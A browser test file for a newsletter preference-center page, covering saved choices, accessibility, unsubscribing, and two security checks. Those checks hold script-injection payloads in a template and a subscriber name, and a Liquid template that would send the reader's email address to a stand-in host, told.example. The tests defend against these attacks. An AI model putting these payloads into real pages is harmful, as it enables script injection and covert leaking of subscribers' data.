/*
 * The ready page in a real browser, with scripts switched off: opened, used with the mouse and with the
 * keyboard, on a wide screen and on a phone's.
 */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { launchChromium, skipWithoutChromium as skip } from "../../browser/chromium.ts";
import { NEWSLETTER, startServer } from "../../harness.ts";
import { pageOf, stateOf } from "../../preference-center-calls.ts";
import { assertReadyPageAccessible, CENTER, open, statesOf, withAda } from "./ready-page.ts";

describe("the ready page in a browser without scripts", { skip }, async () => {
  if (skip) return;
  const server = await startServer();
  const browser = await launchChromium();

  test("two choices on the ready page are saved and visible through the API", async () => {
    const { workspace, url } = await withAda(server);
    assert.deepEqual(await statesOf(workspace), ["Subscribed", "Unknown"]);
    const { page, complaints } = await open(browser, url);
    const [newsletter, products] = [page.getByLabel("Newsletter"), page.getByLabel("Product news")];
    assert.deepEqual([await newsletter.isChecked(), await products.isChecked()], [true, false]);
    await newsletter.click();
    await products.click();
    await page.getByRole("button", { name: "Save my choices" }).click();
    assert.equal(
      await page.getByRole("heading", { level: 1 }).innerText(),
      "Your choices are saved",
    );
    assert.deepEqual(await statesOf(workspace), ["Unsubscribed", "Subscribed"]);
    await page.getByRole("link", { name: "Change something" }).click();
    assert.deepEqual([await newsletter.isChecked(), await products.isChecked()], [false, true]);
    assert.deepEqual(complaints, []);
  });

  test("the ready page and its confirmation have no accessibility violations (wide and light)", () =>
    assertReadyPageAccessible(server, browser));

  test("one click unsubscribes from all emails, and another one subscribes again", async () => {
    const { workspace, url } = await withAda(server);
    const emailState = async () =>
      (await workspace.profile({ external_ids: ["ada"] })).email_subscribe;
    const { page } = await open(browser, url);
    await page.getByRole("button", { name: "Unsubscribe from all emails" }).click();
    await page.getByText("You will get no more emails from us.").waitFor();
    assert.equal(await emailState(), "unsubscribed");
    await page.getByRole("link", { name: "Change something" }).click();
    await page.getByRole("button", { name: "Receive emails again" }).click();
    await page.getByText("Your choices are saved").waitFor();
    assert.equal(await emailState(), "subscribed");
    assert.equal(await stateOf(workspace, NEWSLETTER), "Subscribed");
  });

  test("scripts in a page and in a value do not run, even in a browser with scripts enabled", async () => {
    const { workspace } = await withAda(server);
    const page_html = `<title>Before</title><script>document.title = "script"</script>
<p onclick="document.title = 'attribute'">{{\${first_name} | raw}}</p>
<a href="javascript:document.title = 'link'">link</a>`;
    await server.admin(
      "PUT",
      `/admin/v1/workspaces/${workspace.name}/preference-centers/${CENTER}`,
      { name: "main", page_html },
    );
    const first_name = `<img src=x onerror="document.title = 'value'"><b>loud</b>`;
    await workspace.track({ attributes: [{ external_id: "ada", first_name }] });
    const url = server.url + (await pageOf(workspace, CENTER));
    const { page } = await open(browser, url, { javaScriptEnabled: true });
    await page.getByText("loud").click();
    await page.getByText("link").click();
    assert.equal(await page.title(), "Before");
  });

  test("a refresh and pictures that Liquid writes send no other host the page's data about its reader", async () => {
    const { workspace } = await withAda(server);
    const path = `/admin/v1/workspaces/${workspace.name}/preference-centers/${CENTER}`;
    const told = "https://told.example/?{{$" + "{email_address} | url_encode}}";
    const page_html = `<title>Choices</title><p>Here</p>
{% capture to %}${told}{% endcapture %}
{{ "<me" | append: "ta http-equiv='refresh' content='0;url=" | append: to | append: "'>" | raw }}
<style>@font-face { font-family: told; src: url("${told}") } p { font-family: told; background: url("${told}") }</style>
<img src="${told}" alt=""><svg><image href="${told}" /></svg>`;
    const { status, body } = await server.admin("PUT", path, { name: "main", page_html });
    assert.equal(status, 200, JSON.stringify(body));
    const url = server.url + (await pageOf(workspace, CENTER));
    for (const hosts of [[], ["told.example"]]) {
      const settings = { page_image_hosts: hosts };
      await server.admin("PUT", `/admin/v1/workspaces/${workspace.name}/settings`, settings);
      const { page } = await open(browser, "about:blank", { javaScriptEnabled: true });
      const asked = new Set<string>();
      await page.route("https://told.example/**", (route) => {
        asked.add(route.request().resourceType());
        return route.fulfill({ status: 200, contentType: "text/html", body: "told" });
      });
      await page.goto(url);
      assert.match(await page.content(), /http-equiv="?refresh/);
      await page.waitForTimeout(1_000);
      assert.equal(page.url(), url);
      // The same requests are seen where the workspace allows the host: the test can fail.
      assert.deepEqual([...asked].sort(), hosts.length === 0 ? [] : ["font", "image"]);
    }
  });
});
